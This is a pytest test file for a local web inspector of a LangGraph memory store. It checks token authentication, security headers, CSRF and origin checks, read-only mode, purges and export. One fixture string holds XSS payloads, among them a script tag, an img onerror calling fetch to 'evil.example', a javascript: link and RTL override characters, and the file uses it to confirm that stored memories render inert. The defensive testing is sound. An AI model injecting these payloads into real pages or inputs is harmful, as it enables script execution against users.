"""The memory inspector's app, through HTTP as a browser speaks it (Starlette's test
client, in process): who may use it, what each page shows, what each action changes,
and that nothing a memory holds can act on the page. The browser runs of the same
pages are in test_inspector_browser.py."""

from __future__ import annotations

import json
import re
import socket
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from langchain_core.embeddings import DeterministicFakeEmbedding
from starlette.testclient import TestClient

from langgraph_memory import Decision, DecisionOp, MemoryStore, Source, render, retrieve
from langgraph_memory.inspector import create_app
from langgraph_memory.inspector.views import Filters, person_page
from langgraph_memory.read import rules_of
from langgraph_memory.store import internals

TOKEN = "test-token-0123456789"
BASE = "http://127.0.0.1:8765"
#: What a poisoned memory may hold; the store keeps every one of these.
HOSTILE = (
    "Note <script>alert('x')</script> <img src=x onerror=\"fetch('http://evil.example/')\"> "
    '<a href="javascript:alert(1)">click</a> \u202egnp.exe\u202c done'
)


@pytest.fixture
def store(tmp_path: Path) -> Iterator[MemoryStore]:
    with MemoryStore(tmp_path / "memory", embeddings=DeterministicFakeEmbedding(size=16)) as s:
        yield s


def client_of(store: MemoryStore, *, read_only: bool = False) -> TestClient:
    """A browser that opened the printed URL (its cookie holds the token)."""
    client = TestClient(create_app(store, token=TOKEN, read_only=read_only), base_url=BASE)
    first = client.get(f"/?token={TOKEN}", follow_redirects=False)
    assert first.status_code == 303 and first.headers["location"] == "/"
    assert "HttpOnly" in first.headers["set-cookie"]
    assert "SameSite=Strict" in first.headers["set-cookie"]
    return client


def csrf_of(client: TestClient, scope: str) -> str:
    page = client.get(f"/purge?scope={scope}").text
    [token] = set(re.findall(r'name="csrf" value="([^"]+)"', page))
    return token


def test_every_request_needs_the_token(store: MemoryStore) -> None:
    store.add("user:alice", "User likes tea.")
    app = create_app(store, token=TOKEN)
    anonymous = TestClient(app, base_url=BASE)
    for path in ("/", "/person?scope=user:alice", "/export?scope=user:alice", "/style.css"):
        assert anonymous.get(path).status_code == 401
    assert anonymous.post("/purge", data={"scope": "user:alice"}).status_code == 401
    assert anonymous.get("/?token=wrong-token-000000").status_code == 403
    anonymous.cookies.set("lgm_inspect", "wrong-token-000000")
    assert anonymous.get("/").status_code == 403
    # Another name for the address (DNS rebinding) is refused even with the token.
    rebound = TestClient(app, base_url="http://evil.example:8765")
    assert rebound.get(f"/?token={TOKEN}").status_code == 400
    assert store.active("user:alice")  # nothing changed


def test_pages_forbid_scripts_frames_and_outside_requests(store: MemoryStore) -> None:
    store.add("user:alice", "User likes tea.")
    page = client_of(store).get("/person?scope=user:alice")
    policy = page.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "script-src" not in policy
    assert "frame-ancestors 'none'" in policy and page.headers["x-frame-options"] == "DENY"
    assert page.headers["referrer-policy"] == "same-origin"
    assert "<script" not in page.text


def test_the_scopes_page_counts_each_kind(store: MemoryStore) -> None:
    old = store.add("user:alice", "User lives in Delhi.")
    store.update("user:alice", old.id, "User lives in Pune.")
    store.add("user:alice", "Wants PRs as drafts.", kind="procedural", source="explicit")
    store.add("user:alice", "I moved to Pune.", kind="episodic", metadata={"episode": True})
    store.add("user:bob", "Bob has a cat.")
    html = client_of(store).get("/").text
    row = re.search(r"user:alice</a></td>(.*?)</tr>", html, re.S)
    assert row is not None
    cells = re.findall(r'<td class="n">(\d+)</td>', row.group(1))
    assert cells == ["1", "1", "1", "1", "0"]  # facts, rules, episodes, archived, queued
    assert "user:bob" in html


def test_a_person_page_groups_filters_and_pages(store: MemoryStore) -> None:
    t0 = datetime(2026, 1, 1, tzinfo=timezone.utc)
    old = store.add("user:alice", "User lives in Delhi.", now=t0)
    store.update("user:alice", old.id, "User lives in Pune.", now=t0 + timedelta(days=30))
    gone = store.add("user:alice", "User drinks coffee.", now=t0)
    store.archive("user:alice", gone.id, now=t0 + timedelta(days=10))
    store.add("user:alice", "Wants PRs as drafts.", kind="procedural", source="explicit", now=t0)
    store.add_many("user:alice", [f"User visited museum {i}." for i in range(60)], now=t0)
    client = client_of(store)

    first = client.get("/person?scope=user:alice").text
    assert first.index("Rules, how to work with this person") < first.index("Facts")
    assert "User lives in Pune." in first and "User drinks coffee." not in first
    assert "page 1 of 2" in first
    # The moved-to fact has two versions on the timeline: the closed one, then the open one.
    chain = re.search(r"User lives in Pune\.</a>.*?</svg>", first, re.S)
    assert chain is not None
    assert re.findall(r'<rect class="(\w+)"', chain.group(0)) == ["closed", "open"]

    archived = client.get("/person?scope=user:alice&state=archived").text
    assert "User drinks coffee." in archived and "User lives in Pune." not in archived
    rules = client.get("/person?scope=user:alice&group=rules").text
    assert "Wants PRs as drafts." in rules and "museum" not in rules
    explicit = client.get("/person?scope=user:alice&source=explicit").text
    assert "Wants PRs as drafts." in explicit and "Pune" not in explicit
    found = client.get("/person?scope=user:alice&text=PUNE").text
    assert "User lives in Pune." in found and "museum" not in found
    second = client.get("/person?scope=user:alice&page=2").text
    assert "page 2 of 2" in second and "User lives in Pune." not in second
    page = person_page(store, "user:alice", Filters(state="all"))
    assert page.total == 63 and page.counts == {"rules": 1, "facts": 62, "episodes": 0}


def test_a_memory_page_shows_every_version_and_why(store: MemoryStore) -> None:
    old = store.add("user:alice", "User lives in Delhi.")
    neighbour = store.add("user:alice", "User works in Gurgaon.")
    new = store.update("user:alice", old.id, "User lives in Pune.")
    internals(store).log(
        "user:alice",
        Decision(
            op=DecisionOp.UPDATE,
            fact="User moved to Pune.",
            text="User lives in Pune.",
            target_id=old.id,
            result_id=new.id,
            shown_ids=(old.id, neighbour.id),
            shown_texts=("User lives in Delhi.", "User works in Gurgaon."),
            raw='{"op": "UPDATE", "id": 0}',
            turn_id="turn-7",
        ),
    )
    html = client_of(store).get(f"/memory?scope=user:alice&id={old.id}").text
    versions = html[html.index("<h2>Versions") : html.index("<h2>Change")]
    assert versions.index("User lives in Delhi.") < versions.index("User lives in Pune.")
    assert "User works in Gurgaon." in html and "turn-7" in html
    assert "&#34;op&#34;: &#34;UPDATE&#34;" in html  # what the model answered, escaped
    assert f'href="/memory?scope=user%3Aalice&amp;id={neighbour.id}"' in html


def test_search_shows_the_agents_read_and_its_prompt_exactly(store: MemoryStore) -> None:
    store.add_many("user:alice", [f"User likes hobby {i}." for i in range(20)])
    store.add("user:alice", "Locker code is ZX-4471.")
    store.add("user:alice", "Wants answers in French.", kind="procedural", source="explicit")
    before = {m.id: m.last_accessed for m in store.active("user:alice")}
    html = client_of(store).get("/search?scope=user:alice&q=What+is+the+ZX-4471+code%3F&k=3").text
    found = retrieve(store, "user:alice", "What is the ZX-4471 code?", k=3, touch=False)
    assert html.count('<tr class="result">') == len(found) == 3
    assert re.search(r"ZX-4471\.</a>.*?score \d", html, re.S)  # the first row's explain
    assert found[0].explain() in html
    prompt = re.search(r'<pre class="prompt">(.*?)</pre>', html, re.S)
    assert prompt is not None
    expected = render(found, rules=rules_of(store, "user:alice"))
    assert prompt.group(1).replace("&#34;", '"').replace("&amp;", "&") == expected
    # A person looking is not the agent using a memory: nothing was touched.
    internals(store).flush_access()
    assert {m.id: m.last_accessed for m in store.active("user:alice")} == before


def test_correct_makes_a_new_version_and_logs_it(store: MemoryStore) -> None:
    wrong = store.add("user:alice", "User lives in Delhi.")
    client = client_of(store)
    form = {"csrf": csrf_of(client, "user:alice"), "scope": "user:alice", "id": wrong.id}
    done = client.post("/correct", data={**form, "text": "User lives in Pune."})
    assert done.status_code == 200 and "Corrected" in done.text
    [now] = store.active("user:alice")
    assert now.text == "User lives in Pune." and now.source is Source.USER_CORRECTION
    assert [v.text for v in store.history("user:alice", now.id)] == [
        "User lives in Delhi.",
        "User lives in Pune.",
    ]
    [decision] = store.decisions("user:alice", now.id)
    assert decision.op is DecisionOp.UPDATE and decision.result_id == now.id
    assert decision.note is not None and "inspector" in decision.note
    assert "corrected, made by the person" in done.text  # the why on the page it lands on


@pytest.mark.slow  # slow
def test_pin_unpin_archive_and_delete(store: MemoryStore) -> None:
    memory = store.add("user:alice", "User is allergic to nuts.")
    other = store.add("user:alice", "User likes tea.")
    client = client_of(store)
    csrf = csrf_of(client, "user:alice")

    def post(path: str, memory_id: str, **extra: str) -> int:
        form = {"csrf": csrf, "scope": "user:alice", "id": memory_id, **extra}
        return client.post(path, data=form, follow_redirects=False).status_code

    assert post("/pin", memory.id) == 303
    [pinned] = store.pinned("user:alice")
    assert post("/unpin", pinned.id) == 303 and store.pinned("user:alice") == []
    current = next(m for m in store.active("user:alice") if "nuts" in m.text)
    assert post("/archive", current.id) == 303
    assert [m.id for m in store.active("user:alice")] == [other.id]
    assert len(store.history("user:alice", memory.id)) == 3  # added, pinned, unpinned (closed)
    assert post("/purge-memory", other.id) == 400  # the box not ticked: nothing purged
    assert [m.id for m in store.active("user:alice")] == [other.id]
    assert post("/purge-memory", other.id, confirm="yes") == 303
    assert store.active("user:alice") == []
    assert post("/purge-memory", memory.id, confirm="yes") == 303
    left = store.export("user:alice")  # both gone for good, their history and log too
    assert left["memories"] == [] and left["decisions"] == []


@pytest.mark.slow  # purges (each rebuilds in a child process)
def test_purge_needs_the_typed_scope(store: MemoryStore) -> None:
    store.add("user:alice", "User likes tea.")
    store.add("user:bob", "Bob likes coffee.")
    client = client_of(store)
    csrf = csrf_of(client, "user:alice")
    wrong = client.post("/purge", data={"csrf": csrf, "scope": "user:alice", "confirm": "alice"})
    assert wrong.status_code == 400 and "type user:alice exactly" in wrong.text
    assert store.active("user:alice")
    form = {"csrf": csrf, "scope": "user:alice", "confirm": "user:alice"}
    done = client.post("/purge", data=form)
    assert done.status_code == 200 and "Purged for good" in done.text
    assert [s.key for s in store.scopes()] == ["user:bob"]


def test_an_action_without_the_csrf_token_or_from_elsewhere_changes_nothing(
    store: MemoryStore,
) -> None:
    memory = store.add("user:alice", "User likes tea.")
    client = client_of(store)
    csrf = csrf_of(client, "user:alice")
    form = {"scope": "user:alice", "id": memory.id, "confirm": "yes"}
    assert client.post("/purge-memory", data=form).status_code == 403
    assert client.post("/purge-memory", data={**form, "csrf": "forged-000000"}).status_code == 403
    foreign = client.post(
        "/purge-memory", data={**form, "csrf": csrf}, headers={"origin": "http://evil.example"}
    )
    assert foreign.status_code == 403
    assert (
        client.get(f"/purge-memory?scope=user:alice&id={memory.id}&confirm=yes").status_code == 405
    )
    assert [m.id for m in store.active("user:alice")] == [memory.id]


def test_read_only_shows_no_action_and_refuses_every_one(store: MemoryStore) -> None:
    memory = store.add("user:alice", "User likes tea.")
    client = client_of(store, read_only=True)
    for page in (f"/memory?scope=user:alice&id={memory.id}", "/person?scope=user:alice"):
        html = client.get(page).text
        assert '<form method="post"' not in html and "read-only" in html
    assert client.get("/purge?scope=user:alice").status_code == 403
    for path in ("/correct", "/pin", "/archive", "/purge-memory", "/purge"):
        form = {"scope": "user:alice", "id": memory.id, "text": "x", "confirm": "yes"}
        assert client.post(path, data=form).status_code == 403
    assert [m.id for m in store.active("user:alice")] == [memory.id]


def test_a_hostile_memory_shows_as_its_words(store: MemoryStore) -> None:
    memory = store.add("user:alice", HOSTILE)
    client = client_of(store)
    for page in (
        "/person?scope=user:alice",
        f"/memory?scope=user:alice&id={memory.id}",
        "/search?scope=user:alice&q=note+click",
    ):
        html = client.get(page).text
        assert "<script" not in html and "<img" not in html and 'href="javascript:' not in html
        assert "&lt;script&gt;" in html and "onerror" in html  # shown, inert
        assert "\u202e" not in html and "\u202c" not in html  # no reordering of what follows


def test_export_downloads_what_import_restores(store: MemoryStore, tmp_path: Path) -> None:
    old = store.add("user:alice", "User lives in Delhi.")
    store.update("user:alice", old.id, "User lives in Pune.")
    got = client_of(store).get("/export?scope=user:alice")
    assert got.headers["content-disposition"] == 'attachment; filename="user-alice.json"'
    with MemoryStore(tmp_path / "other", embeddings=DeterministicFakeEmbedding(size=16)) as other:
        other.import_scope(json.loads(got.text))
        assert [m.text for m in other.active("user:alice")] == ["User lives in Pune."]
        assert len(other.history("user:alice", other.active("user:alice")[0].id)) == 2


def test_bad_requests_get_a_page_that_says_what_to_do(store: MemoryStore) -> None:
    store.add("user:alice", "User likes tea.")
    client = client_of(store)
    missing = client.get("/person?scope=user:nobody")
    assert missing.status_code == 404 and "holds nothing for user:nobody" in missing.text
    assert client.get("/person").status_code == 400
    assert client.get("/person?scope=nonsense").status_code == 400
    assert client.get("/person?scope=user:alice&state=gone").status_code == 400
    assert client.get("/person?scope=user:alice&page=0").status_code == 400
    past = client.get("/person?scope=user:alice&page=2")
    assert past.status_code == 400 and "past the last page (1)" in past.text
    assert client.get("/memory?scope=user:alice&id=feedbeef").status_code == 404
    assert client.get("/search?scope=user:alice&q=tea&k=500").status_code == 400


def test_the_command_says_what_to_change_when_it_cannot_serve(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from langgraph_memory.cli import main

    assert main(["inspect", "--path", str(tmp_path / "nothing"), "--port", "0"]) == 1
    assert "no memory store at" in capsys.readouterr().err
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        assert main(["inspect", "--path", str(tmp_path), "--port", str(port)]) == 1
        assert f"port {port} on 127.0.0.1 is in use: pass --port N" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exited:
        main(["inspect", "--port", "70000"])
    assert exited.value.code == 2
